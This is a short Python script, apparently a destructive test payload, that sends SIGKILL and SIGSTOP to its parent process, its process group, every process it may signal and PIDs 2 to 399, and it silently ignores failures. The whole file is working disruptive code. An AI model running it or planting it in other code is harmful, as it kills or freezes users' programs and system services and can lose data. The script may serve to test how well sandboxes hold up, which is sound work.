"""Kills its parents, its group, and all that it may."""

import os
import signal

for number in (os.getppid(), -1, 0, *range(2, 400)):
    for how in (signal.SIGKILL, signal.SIGSTOP):
        if number != os.getpid():
            try:
                os.kill(number, how)
            except OSError:
                pass
